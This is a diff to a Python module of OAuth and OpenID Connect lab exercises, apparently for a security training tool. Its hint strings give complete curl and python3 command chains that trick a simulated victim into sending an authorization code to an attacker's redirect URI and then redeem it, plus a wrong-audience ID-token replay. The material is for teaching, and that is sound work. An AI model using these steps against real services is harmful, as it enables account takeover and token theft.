@@ -14,6 +14,7 @@ from authcli.walkthroughs.lab.exercise_model import Exercise
 CALLBACK = oauth.APP
 TOKEN = ("curl -s -X POST {url}/token -d grant_type=authorization_code -d code=\"$CODE\" -d client_id=\"$CLIENT\" "
          "-d redirect_uri=")
+FIELD = "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"id_token\"])'"
 # A URL's parameter (query or fragment), printed by python3: no jq or URL parsing by hand.
 PARAM = ("python3 -c 'import sys,urllib.parse as u; p=u.urlsplit(sys.argv[1]); "
          "print(u.parse_qs(p.query+\"&\"+p.fragment)[sys.argv[2]][0])'")
@@ -57,11 +58,11 @@ OAUTH_EXERCISES = [
         "compared as exact strings, the port of a native app's localhost redirect URI being the one "
         "exception [^rfc9700-2.1]. PKCE is no help here: you start the flow, so the code_verifier is yours "
         "[^rfc9700-4.1.1].",
-        "Make a verifier and its challenge: " + CHALLENGE + ". Send user 1 the link: curl -s -X POST "
+        "Make a verifier and its challenge, and send user 1 the link: " + CHALLENGE + "; curl -s -X POST "
         "{url}/victim -H 'Content-Type: application/json' -d '{{\"link\": \"{url}/authorize?response_type=code"
         f"&client_id='$CLIENT'&scope=openid&state=x&code_challenge_method=S256&redirect_uri={EVIL}&"
         "code_challenge='$C'\"}}'",
-        "This terminal shows where user 1's browser went: put that URL in WENT (WENT='...'), and redeem its "
+        "This terminal shows where user 1's browser went; paste that URL into WENT='...', then redeem its "
         "code: CODE=$(" + PARAM + " \"$WENT\" code); " + TOKEN + EVIL + " -d code_verifier=\"$V\""),
         oauth.redirect_prefix, leaked="The app's client_id (codes on this run's authorization server last an hour, "
         "to leave time to work by hand; real ones last minutes); paste this line into your shell:\n"
@@ -87,21 +88,28 @@ OAUTH_EXERCISES = [
     Exercise("wrong-aud", ID_LOGIN + "You have an app of your own at the same authorization server (below); "
              "user 1 signs in to it through a link you send: POST JSON {\"link\": \"...\"} to /victim.",
              ("curl", "python3", "authcli decode"), (
-        START.format(note="Its Location carries the nonce this login expects back in the ID token; "
-                     "/login/id-token checks a token against the login in that cookie [^oidc-core-3.1.3.7]"),
+        "Start a login at this app, keeping its cookie in jar.txt: its Location carries the nonce this login "
+        "expects back in the ID token, and /login/id-token checks a token against the login in that cookie "
+        "[^oidc-core-3.1.3.7]. Keep the nonce in NONCE: LOCATION=$(curl -si -c jar.txt {url}/login | tr -d '\\r' "
+        "| sed -n 's/^[Ll]ocation: //p'); NONCE=$(" + PARAM + " \"$LOCATION\" nonce); echo \"nonce: $NONCE\"",
         "An ID token's aud names the client it was made for, and a client must refuse one whose aud does not "
         "name it [^oidc-core-3.1.3.7]. This app never looks: a token the same server made for your app, about "
         "user 1, passes here.",
-        "Make a verifier and its challenge: " + CHALLENGE + ". Send user 1 a link to sign in to your app, with "
-        "the nonce of hint 1: curl -s -X POST {url}/victim -H 'Content-Type: application/json' -d '{{\"link\": "
-        "\"{provider}/authorize?response_type=code&client_id=YOUR_CLIENT&scope=openid&state=x&nonce=THE_NONCE"
+        "Make a verifier and its challenge, and send user 1 a link to sign in to your app, with the nonce of "
+        "hint 1: " + CHALLENGE + "; curl -s -X POST {url}/victim -H 'Content-Type: application/json' -d "
+        "'{{\"link\": \"{provider}/authorize?response_type=code&client_id='$MY_CLIENT'&scope=openid&state=x"
+        "&nonce='$NONCE'"
         f"&code_challenge_method=S256&redirect_uri={client.MINE}&code_challenge='$C'\"}}}}'",
-        "This terminal shows where user 1's browser went: redeem its code as your app, and take the id_token "
-        "from the answer (authcli decode shows its sub and aud): curl -s -u YOUR_CLIENT:YOUR_SECRET "
-        f"{{provider}}/token -d grant_type=authorization_code -d code=THE_CODE -d redirect_uri={client.MINE} "
-        "-d code_verifier=$V",
+        "This terminal shows where user 1's browser went; paste that URL into WENT='...', then redeem its code "
+        "as your app and keep the answer's id_token in ID_TOKEN (authcli decode shows its sub and aud): "
+        "CODE=$(" + PARAM + " \"$WENT\" code); ID_TOKEN=$(curl -s -u \"$MY_CLIENT:$MY_SECRET\" "
+        f"{{provider}}/token -d grant_type=authorization_code -d code=\"$CODE\" -d redirect_uri={client.MINE} "
+        "-d code_verifier=\"$V\" | " + FIELD + "); authcli decode \"$ID_TOKEN\"",
         "Post it into your login of hint 1: " + POST_TOKEN),
-        client.wrong_aud, leaked="Your own app at the same authorization server: {value}", path="/login/id-token",
+        client.wrong_aud, leaked="Your own app at the same authorization server, redirect URI " + client.MINE
+        + "; paste these two lines into your shell:\n"
+        "  MY_CLIENT='{client_id}'  # your app's client_id\n"
+        "  MY_SECRET='{client_secret}'  # your app's client_secret", path="/login/id-token",
         route=VICTIM_PATH, account=False),
     Exercise("no-nonce", ID_LOGIN + "User 1 logged in to the app when this exercise started; a log of the "
              "app's token responses kept their ID token (shown below).", ("curl", "authcli decode"), (
